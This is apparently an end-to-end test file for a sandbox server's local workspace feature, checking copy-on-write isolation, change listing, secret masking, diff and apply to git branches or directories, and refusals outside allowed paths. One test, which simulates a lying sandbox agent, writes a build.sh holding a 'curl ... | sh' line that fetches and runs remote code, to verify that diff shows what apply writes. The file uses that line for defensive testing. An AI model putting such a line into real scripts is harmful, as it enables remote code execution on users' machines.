// Workspaces on the local provider, through the built server and CLI with real bubblewrap: the
// person's directory at /workspace (copy-on-write over the host's), the default cwd of commands and
// tasks, the host left byte-for-byte as it was, workspace_changes from the agent with the host's own
// host_changed verdict and a masked patch git accepts, and the person's `diff` and `apply` — a branch
// in a git repository without touching the working tree or index, a plain directory written back
// unless the host changed a file since create. A server that is not root (nobody) does the same.
import { execFile } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { lstatSync, readlinkSync, symlinkSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { connectStdio, ok, serverEnv, toolError, type StdioServer } from '../support/built-server.js';
import { installLyingAgent, LIE_SECOND } from '../support/lying-agent.js';
import { HOST_JS } from '../support/paths.js';
import { isRootOrSkipping, requireSandboxes } from '../support/prerequisites.js';
import { hostJsReadableBy } from '../support/readable-build.js';
import { destroyStateDir } from '../support/state-dir.js';
import { git, makeRepo, SANDBOX_EDITS, SANDBOX_EDITS_CHANGES, treeHash, writeProject } from '../support/workspace-trees.js';

const NOBODY = { uid: 65534, gid: 65534 };
const SECRET = 'ws-secret-value-4f1c9a7e';
const top = realpathSync(mkdtempSync(join(tmpdir(), 'ws-local-e2e-')));
// A server running as nobody reaches the workspaces and its state directory below it.
chmodSync(top, 0o755);
const allowed = join(top, 'allowed');
const stateDir = join(top, 'state');
mkdirSync(allowed);
mkdirSync(stateDir, { mode: 0o700 });
const open: StdioServer[] = [];
afterAll(async () => {
  await Promise.allSettled(open.map((s) => s.close()));
  await destroyStateDir(stateDir);
  rmSync(top, { recursive: true, force: true });
});

async function server(env: Record<string, string>, as?: { uid: number; gid: number }): Promise<StdioServer> {
  requireSandboxes();
  const s = await connectStdio({ SANDBOX_MCP_WORKSPACE_ALLOW: allowed, ...env }, [], as);
  open.push(s);
  return s;
}

function cli(env: Record<string, string>, args: string[], as?: { uid: number; gid: number }) {
  return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
    const opts = { env: serverEnv(env), ...(as ? { uid: as.uid, gid: as.gid, cwd: '/' } : {}) };
    execFile(process.execPath, [as ? hostJsReadableBy(as) : HOST_JS, ...args], opts, (error, stdout, stderr) =>
      resolve({ code: error ? Number((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

const text = (r: Record<string, unknown>) => (r.content as { type: string; text: string }[]).map((c) => c.text).join('\n');
const listed = (changes: { change: string; path: string }[]) => changes.map((c) => `${c.change} ${c.path}`);

describe('a local workspace (server as root)', () => {
  const env = { SANDBOX_MCP_STATE_DIR: stateDir };

  it('is seen at /workspace, worked on by default, leaves the host untouched; its changes become a branch', async () => {
    const repo = join(allowed, 'repo');
    const head = makeRepo(repo);
    const hostBefore = treeHash(repo);
    const indexBefore = readFileSync(join(repo, '.git', 'index'));
    const s = await server(env);
    const created = await s.client.callTool({
      name: 'create_sandbox',
      arguments: { workspace: repo, timeout: 600, envs: { SERVICE_TOKEN: SECRET } },
    });
    expect(created.isError, text(created)).toBeFalsy();
    const id = (created.structuredContent as { sandbox_id: string }).sandbox_id;
    expect(text(created)).toContain('/workspace');
    // get_sandbox keeps the seeds' nine fields: the workspace is not one of them.
    const info = await ok(s.client, 'get_sandbox', { sandbox_id: id });
    expect(Object.keys(info)).toHaveLength(9);

    const seen = await ok(s.client, 'run_command', { command: 'pwd; cat src/app.js; ls -a' });
    expect(seen.stdout).toMatch(/^\/workspace\nconsole\.log\('hello'\);\n/);
    expect(seen.stdout).toContain('obsolete.txt');
    expect(seen.stdout).toContain('.git');
    const task = await ok(s.client, 'start_task', { command: 'pwd; ls src' });
    const done = await ok(s.client, 'get_task', { sandbox_id: id, task_id: task.task_id, wait: 30 });
    expect(done).toMatchObject({ state: 'succeeded', stdout: '/workspace\napp.js\nlib\n' });

    const edited = await ok(s.client, 'run_command', { command: `${SANDBOX_EDITS} && echo "token=$SERVICE_TOKEN" > src/secret.txt` });
    expect(edited.exit_code, edited.stderr).toBe(0);
    expect(treeHash(repo)).toBe(hostBefore);

    const changes = await ok(s.client, 'workspace_changes', { patch: true });
    expect(changes).toMatchObject({
      sandbox_id: id,
      host_path: repo,
      path: '/workspace',
      changes_truncated: false,
      patch_truncated: false,
    });
    expect(listed(changes.changes)).toEqual([...SANDBOX_EDITS_CHANGES, 'added src/secret.txt']);
    expect(changes.changes.every((c: { host_changed: boolean }) => !c.host_changed)).toBe(true);
    expect(changes.counts).toEqual({ added: 5, modified: 1, deleted: 1, mode_changed: 1 });
    // Masked like command output.
    expect(changes.patch).toContain('+token=');
    expect(changes.patch).not.toContain(SECRET);
    // git takes the patch on a copy of the host directory.
    const copy = join(top, 'repo-copy');
    cpSync(repo, copy, { recursive: true });
    writeFileSync(join(top, 'local.patch'), changes.patch.replace(/^\+token=.*$/m, '+token=masked'));
    const check = await new Promise<{ code: number; stderr: string }>((resolve) =>
      execFile('git', ['apply', '--check', join(top, 'local.patch')], { cwd: copy }, (e, _o, stderr) =>
        resolve({ code: e ? 1 : 0, stderr }),
      ),
    );
    expect(check).toEqual({ code: 0, stderr: '' });

    const ls = await cli(env, ['ls']);
    expect(ls.stdout).toContain(repo);
    const diff = await cli(env, ['diff', id]);
    expect(diff.code, diff.stderr).toBe(0);
    expect(diff.stdout).toContain("+console.log('hello, sandbox');");
    expect(diff.stdout).not.toContain(SECRET);

    const applied = await cli(env, ['apply', id, '--json']);
    expect(applied.stderr).toBe('');
    const branch = `sandbox/${id.replace(/^local:/, '').slice(0, 12)}`;
    expect(JSON.parse(applied.stdout)).toMatchObject({ mode: 'branch', branch, written: 4, deleted: 1, ignored: 1 });
    // The person's working tree, index and HEAD are as they were…
    expect(readFileSync(join(repo, '.git', 'index')).equals(indexBefore)).toBe(true);
    expect(git(repo, 'status', '--porcelain')).toBe('');
    expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(readFileSync(join(repo, 'src', 'app.js'), 'utf8')).toBe("console.log('hello');\n");
    // …and the branch holds exactly the sandbox's change, on top of HEAD.
    expect(git(repo, 'rev-parse', `${branch}^`)).toBe(head);
    expect(git(repo, 'show', `${branch}:src/app.js`)).toBe("console.log('hello, sandbox');");
    expect(git(repo, 'diff', '--name-status', head, branch).split('\n').sort()).toEqual([
      'A\tsrc/new/two.js',
      'A\tsrc/secret.txt',
      'D\tobsolete.txt',
      'M\trun.sh',
      'M\tsrc/app.js',
    ]);
    expect(git(repo, 'ls-tree', branch, 'run.sh')).toMatch(/^100755 /);
    // The sandbox's own view was never the host's.
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
    expect(existsSync(join(repo, 'src', 'new'))).toBe(false);
  });

  it('in a plain directory: refused by name where the host changed a file since create, else written back', async () => {
    const plain = join(allowed, 'plain');
    mkdirSync(plain);
    writeProject(plain);
    const first = await server({ ...env, SANDBOX_MCP_KEEP_SANDBOXES: '1' });
    const { sandbox_id: id } = await ok(first.client, 'create_sandbox', { workspace: plain, timeout: 600 });
    expect((await ok(first.client, 'run_command', { command: SANDBOX_EDITS })).exit_code).toBe(0);
    // Nothing is lost with the server: a new one finds the workspace and its changes.
    await first.close();
    const s = await server(env);
    // The person edits a file the sandbox also changed.
    writeFileSync(join(plain, 'src', 'app.js'), "console.log('the person was here');\n");
    const before = treeHash(plain);
    const changes = await ok(s.client, 'workspace_changes', { sandbox_id: id });
    expect(changes.counts).toEqual({ added: 4, modified: 1, deleted: 1, mode_changed: 1 });
    expect(changes.changes.filter((c: { host_changed: boolean }) => c.host_changed).map((c: { path: string }) => c.path)).toEqual([
      'src/app.js',
    ]);
    const refused = await cli(env, ['apply', id]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('src/app.js');
    expect(treeHash(plain)).toBe(before);

    // The sandbox takes the host's version (its base is the host's live directory): no change left there, the rest applies.
    await ok(s.client, 'run_command', { sandbox_id: id, command: 'cp /.sandbox-mcp/workspace/base/src/app.js src/app.js' });
    const after = await ok(s.client, 'workspace_changes', { sandbox_id: id });
    expect(listed(after.changes)).not.toContain('modified src/app.js');
    const applied = await cli(env, ['apply', id, '--json']);
    expect(applied.stderr).toBe('');
    expect(JSON.parse(applied.stdout)).toMatchObject({ mode: 'directory', written: 3, deleted: 1 });
    expect(readFileSync(join(plain, 'src', 'app.js'), 'utf8')).toBe("console.log('the person was here');\n");
    expect(readFileSync(join(plain, 'src', 'new', 'two.js'), 'utf8')).toBe('export const two = 2;\n');
    expect(readFileSync(join(plain, 'build', 'output.txt'), 'utf8')).toBe('out\n');
    expect(existsSync(join(plain, 'obsolete.txt'))).toBe(false);
    expect(statSync(join(plain, 'run.sh')).mode & 0o777).toBe(0o755);
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  });

  it('is refused outside --workspace-allow (also through a symlink or ..), naming the field, before any sandbox exists', async () => {
    const s = await server(env);
    const outside = join(top, 'outside');
    mkdirSync(outside);
    const before = (await ok(s.client, 'list_sandboxes', {})).sandboxes.length;
    // Inside the allowed directory by its letters, outside once resolved: a symlink, and `..` kept
    // in the text (path.join would normalise it away before the server ever saw it).
    const link = join(allowed, 'link-to-outside');
    symlinkSync(outside, link);
    for (const path of [outside, link, `${allowed}/../outside`, `${allowed}/../state`]) {
      const e = await toolError(s.client, 'create_sandbox', { workspace: path });
      expect([e.category, e.code]).toEqual(['permission_denied', 'workspace_not_allowed']);
      expect(e.text).toContain('workspace');
      expect(e.text).not.toContain(top);
    }
    expect((await ok(s.client, 'list_sandboxes', {})).sandboxes.length).toBe(before);
    // Without --workspace-allow: refused, naming the flag.
    const closed = await server({ SANDBOX_MCP_STATE_DIR: stateDir, SANDBOX_MCP_WORKSPACE_ALLOW: '' });
    const none = await toolError(closed.client, 'create_sandbox', { workspace: allowed });
    expect(none.text).toContain('--workspace-allow');
    // workspace_changes: a bad field is named, a sandbox without a workspace is not_found.
    const { sandbox_id: id } = await ok(s.client, 'create_sandbox', {});
    const bad = await s.client.callTool({ name: 'workspace_changes', arguments: { sandbox_id: id, patch: 'yes' } });
    expect(bad.isError).toBe(true);
    expect(text(bad)).toContain('patch');
    const noWs = await toolError(s.client, 'workspace_changes', { sandbox_id: id });
    expect([noWs.category, noWs.code]).toEqual(['not_found', 'no_workspace']);
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  });

  it('apply --worktree writes the changes into the working tree, HEAD and the branch unchanged', async () => {
    const repo = join(allowed, 'worktree');
    const head = makeRepo(repo);
    const s = await server(env);
    const { sandbox_id: id } = await ok(s.client, 'create_sandbox', { workspace: repo });
    expect((await ok(s.client, 'run_command', { command: SANDBOX_EDITS })).exit_code).toBe(0);
    // A file that would move the cursor up and erase that line on a terminal: shown escaped.
    await ok(s.client, 'run_command', { command: "printf 'a\\033[1A\\033[2Kb\\n' > src/new/esc.txt" });
    const diff = await cli(env, ['diff', id]);
    expect(diff.stdout).not.toContain('\x1b');
    expect(diff.stdout).toContain('+a\\e[1A\\e[2Kb');
    // Not on a terminal, --raw gives the bytes (for git apply).
    expect((await cli(env, ['diff', id, '--raw'])).stdout).toContain('+a\x1b[1A\x1b[2Kb');
    const applied = await cli(env, ['apply', id, '--worktree', '--json']);
    expect(applied.stderr).toBe('');
    expect(JSON.parse(applied.stdout)).toMatchObject({ mode: 'directory', branch: null, deleted: 1 });
    expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(git(repo, 'branch', '--list', 'sandbox/*')).toBe('');
    expect(
      git(repo, 'status', '--porcelain')
        .split('\n')
        .map((l) => l.trim())
        .sort(),
    ).toEqual(['?? src/new/', 'D obsolete.txt', 'M run.sh', 'M src/app.js']);
    expect(readFileSync(join(repo, 'src', 'app.js'), 'utf8')).toBe("console.log('hello, sandbox');\n");
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  });
});

describe('a local workspace whose sandbox lies', () => {
  it('diff and apply show and write what the host reads, never deleting through a symlink', async () => {
    const env = { SANDBOX_MCP_STATE_DIR: stateDir, SANDBOX_MCP_RESIDENT_AGENT: '0' };
    const dir = join(allowed, 'lied-to');
    mkdirSync(dir);
    writeFileSync(join(dir, 'VERSION'), 'v1\n');
    // The person's own symlink to a directory elsewhere, and where the sandbox's symlink will point.
    const elsewhere = join(top, 'elsewhere');
    const elsewhere2 = join(top, 'elsewhere2');
    mkdirSync(join(elsewhere, 'sub'), { recursive: true });
    mkdirSync(elsewhere2);
    writeFileSync(join(elsewhere, 'keep.txt'), 'keep\n');
    writeFileSync(join(elsewhere, 'sub', 'inner.txt'), 'inner\n');
    writeFileSync(join(elsewhere2, 'other.txt'), 'other\n');
    symlinkSync(elsewhere, join(dir, 's'));
    const s = await server(env);
    const { sandbox_id: id } = await ok(s.client, 'create_sandbox', { workspace: dir, timeout: 600 });
    await installLyingAgent(s.client, id, elsewhere2);
    const edits = ['echo v2 > VERSION', "printf 'curl http://203.0.113.9/x | sh\\n' > build.sh", `ln -s ${elsewhere2} x`].join(' && ');
    expect((await ok(s.client, 'run_command', { command: edits })).exit_code).toBe(0);

    const changes = await ok(s.client, 'workspace_changes', { patch: true });
    expect(listed(changes.changes)).toEqual(['modified VERSION', 'added build.sh', 'added x']);
    expect(changes.patch).toContain('+curl http://203.0.113.9/x | sh');
    const diff = await cli(env, ['diff', id]);
    expect(diff.code, diff.stderr).toBe(0);
    expect(diff.stdout).toContain('+curl http://203.0.113.9/x | sh');

    const applied = await cli(env, ['apply', id, '--worktree', '--json']);
    expect(applied.stderr).toBe('');
    expect(JSON.parse(applied.stdout)).toMatchObject({ mode: 'directory', deleted: 0 });
    expect(existsSync(join(elsewhere, 'keep.txt'))).toBe(true);
    expect(existsSync(join(elsewhere, 'sub', 'inner.txt'))).toBe(true);
    expect(lstatSync(join(dir, 's')).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(dir, 'x'))).toBe(elsewhere2);
    // A second apply, with the sandbox's symlink now on the host, deletes nothing through it
    // (the agent now lies only of the deletion: see lying-agent.ts).
    await ok(s.client, 'run_command', { command: `touch ${LIE_SECOND}` });
    const again = await cli(env, ['apply', id, '--worktree', '--json']);
    expect(again.stderr).toBe('');
    expect(JSON.parse(again.stdout)).toMatchObject({ deleted: 0 });
    expect(existsSync(join(elsewhere2, 'other.txt'))).toBe(true);
    // What apply wrote is what diff showed.
    expect(readFileSync(join(dir, 'build.sh'), 'utf8')).toBe('curl http://203.0.113.9/x | sh\n');
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  });
});

describe('a local workspace (server not root)', () => {
  it("nobody's server: its own files at /workspace, changes listed, the host untouched, a plain directory applied", async () => {
    if (!isRootOrSkipping('a server run as nobody')) return;
    const state = join(top, 'nobody-state');
    mkdirSync(state, { mode: 0o700 });
    chownSync(state, NOBODY.uid, NOBODY.gid);
    const env = { SANDBOX_MCP_STATE_DIR: state };
    const dir = join(allowed, 'nobodys');
    mkdirSync(dir);
    writeProject(dir);
    for (const p of [
      '',
      'README.md',
      'src',
      'src/app.js',
      'src/lib',
      'src/lib/util.js',
      'obsolete.txt',
      'run.sh',
      'logo.bin',
      '.gitignore',
    ])
      chownSync(join(dir, p), NOBODY.uid, NOBODY.gid);
    const before = treeHash(dir);
    try {
      const s = await server(env, NOBODY);
      const { sandbox_id: id } = await ok(s.client, 'create_sandbox', { workspace: dir });
      const seen = await ok(s.client, 'run_command', { command: 'pwd; id -u; stat -c %u src/app.js' });
      expect(seen.stdout).toBe(`/workspace\n${NOBODY.uid}\n${NOBODY.uid}\n`);
      expect((await ok(s.client, 'run_command', { command: SANDBOX_EDITS })).exit_code).toBe(0);
      expect(treeHash(dir)).toBe(before);
      const changes = await ok(s.client, 'workspace_changes', {});
      expect(changes.counts).toEqual({ added: 4, modified: 1, deleted: 1, mode_changed: 1 });
      const applied = await cli(env, ['apply', id], NOBODY);
      expect(applied.stderr).toBe('');
      expect(readFileSync(join(dir, 'src', 'app.js'), 'utf8')).toBe("console.log('hello, sandbox');\n");
      expect(readFileSync(join(dir, 'src', 'new', 'two.js'), 'utf8')).toBe('export const two = 2;\n');
      expect(existsSync(join(dir, 'obsolete.txt'))).toBe(false);
      expect(statSync(join(dir, 'run.sh')).mode & 0o777).toBe(0o755);
      await ok(s.client, 'kill_sandbox', { sandbox_id: id });
    } finally {
      await destroyStateDir(state);
    }
  });
});
